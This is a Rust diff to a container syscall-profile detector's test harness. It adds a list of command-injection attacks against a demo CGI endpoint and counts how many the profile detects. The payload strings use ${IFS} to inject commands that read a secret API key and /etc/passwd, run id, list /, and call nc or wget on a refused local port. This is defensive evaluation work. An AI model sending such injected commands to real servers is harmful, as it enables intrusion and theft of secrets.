@@ -87,8 +87,9 @@ pub struct Options {
     pub benign_runs: usize,
     /// Attack runs under enforce (each a fresh container).
     pub attack_runs: usize,
-    /// Runs of each benign traffic variant ([`VARIANTS`]) under enforce with the action
-    /// `alert`, to count false alarms on traffic learning never saw (0: none).
+    /// Runs of each benign traffic variant ([`VARIANTS`]) and each injected command
+    /// ([`ATTACK_VARIANTS`]) under enforce with the action `alert`, to count false alarms on
+    /// traffic learning never saw and detections of attacks it was not built for (0: none).
     pub variation_runs: usize,
     /// The `[filter] hot_coverage` enforce runs with instead of the default (0: every
     /// syscall the profile learned is traced, none allowed in the kernel unseen).
@@ -125,6 +126,8 @@ pub struct Outcome {
     pub alert: Option<Value>,
     /// False alarms on benign traffic variants, when they were run.
     pub variations: Vec<VariantOutcome>,
+    /// Detections of injected commands other than the demo's, when they were run.
+    pub attack_variations: Vec<VariantOutcome>,
 }
 
 impl Outcome {
@@ -328,6 +331,79 @@ pub const VARIANTS: &[Variant] = &[
     },
 ];
 
+/// Sends the injected command `path` carries and takes whatever the server answers.
+fn inject(port: u16, path: &str) -> Result<()> {
+    send(port, &[get_request(path)]).map(|_| ())
+}
+
+/// Commands injected through the CGI's bug, as an attacker would try them: the detections
+/// `--variation-runs` measures. Network calls go to 127.0.0.1:9, refused at once, so that under
+/// the action `alert` no run waits on a connect. The last one runs only shell builtins that
+/// print, which the CGI's shell does while learning too: it is what a learned profile cannot
+/// tell from normal.
+pub const ATTACK_VARIANTS: &[Variant] = &[
+    Variant {
+        name: "exfiltrate",
+        what: "the demo's attack: cat the secret, then nc out",
+        send: |port| {
+            inject(
+                port,
+                "/cgi-bin/greet?name=x;cat${IFS}/secret/api-key;nc${IFS}127.0.0.1${IFS}9;#",
+            )
+        },
+    },
+    Variant {
+        name: "read-secret",
+        what: "cat the secret",
+        send: |port| inject(port, "/cgi-bin/greet?name=x;cat${IFS}/secret/api-key;#"),
+    },
+    Variant {
+        name: "id",
+        what: "run id",
+        send: |port| inject(port, "/cgi-bin/greet?name=x;id;#"),
+    },
+    Variant {
+        name: "list-root",
+        what: "ls /",
+        send: |port| inject(port, "/cgi-bin/greet?name=x;ls${IFS}/;#"),
+    },
+    Variant {
+        name: "passwd",
+        what: "cat /etc/passwd",
+        send: |port| inject(port, "/cgi-bin/greet?name=x;cat${IFS}/etc/passwd;#"),
+    },
+    Variant {
+        name: "download",
+        what: "wget a payload",
+        send: |port| {
+            inject(
+                port,
+                "/cgi-bin/greet?name=x;wget${IFS}-q${IFS}-O-${IFS}http://127.0.0.1:9/x;#",
+            )
+        },
+    },
+    Variant {
+        name: "builtin-read",
+        what: "read the secret with the shell's own read and echo, no new process",
+        send: |port| {
+            inject(
+                port,
+                "/cgi-bin/greet?name=x;read${IFS}k</secret/api-key;echo${IFS}$k;#",
+            )
+        },
+    },
+    Variant {
+        name: "builtin-echo",
+        what: "the shell's own echo, of its PATH: only what learning saw",
+        send: |port| {
+            inject(
+                port,
+                "/cgi-bin/greet?name=x;echo${IFS}pwned;echo${IFS}$PATH;#",
+            )
+        },
+    },
+];
+
 /// What one variant's runs raised.
 #[derive(Debug, Clone, Default)]
 pub struct VariantOutcome {
@@ -344,15 +420,20 @@ pub struct VariantOutcome {
     pub broken: usize,
 }
 
-/// Runs every variant `runs` times under the promoted profile with the action `alert`, each
-/// run a fresh container, and counts the alerts.
-fn variations(ctrd: &Containerd, opts: &Options) -> Result<Vec<VariantOutcome>> {
+/// Runs each of `variants` `opts.variation_runs` times under the promoted profile with the
+/// action `alert`, each run a fresh container, and counts the alerts; `title` heads the report.
+fn variations(
+    ctrd: &Containerd,
+    opts: &Options,
+    variants: &[Variant],
+    title: &str,
+) -> Result<Vec<VariantOutcome>> {
     step(&format!(
-        "benign variation: {} run(s) of each traffic variant, each a fresh container, enforce with action alert (the server keeps running; every alert is a false alarm)",
+        "{title}: {} run(s) of each, each a fresh container, enforce with action alert (the server keeps running)",
         opts.variation_runs
     ));
     let mut outcomes = Vec::new();
-    for variant in VARIANTS {
+    for variant in variants {
         let mut outcome = VariantOutcome {
             name: variant.name,
             ..VariantOutcome::default()
@@ -496,7 +577,18 @@ pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
     }
 
     if opts.variation_runs > 0 {
-        outcome.variations = variations(ctrd, opts)?;
+        outcome.variations = variations(
+            ctrd,
+            opts,
+            VARIANTS,
+            "benign variation (every alert is a false alarm)",
+        )?;
+        outcome.attack_variations = variations(
+            ctrd,
+            opts,
+            ATTACK_VARIANTS,
+            "attack variation (a run with an alert is a detection)",
+        )?;
     }
 
     step(&format!("attack: GET {ATTACK}"));
@@ -711,6 +803,11 @@ mod tests {
                 ("longer", 5 * n, 0),
             ]
         );
+        for v in ATTACK_VARIANTS {
+            let before = seen.0.load(Ordering::Relaxed);
+            (v.send)(port).unwrap_or_else(|e| panic!("{}: {e:#}", v.name));
+            assert_eq!(seen.0.load(Ordering::Relaxed) - before, 1, "{}", v.name);
+        }
     }
 
     #[test]
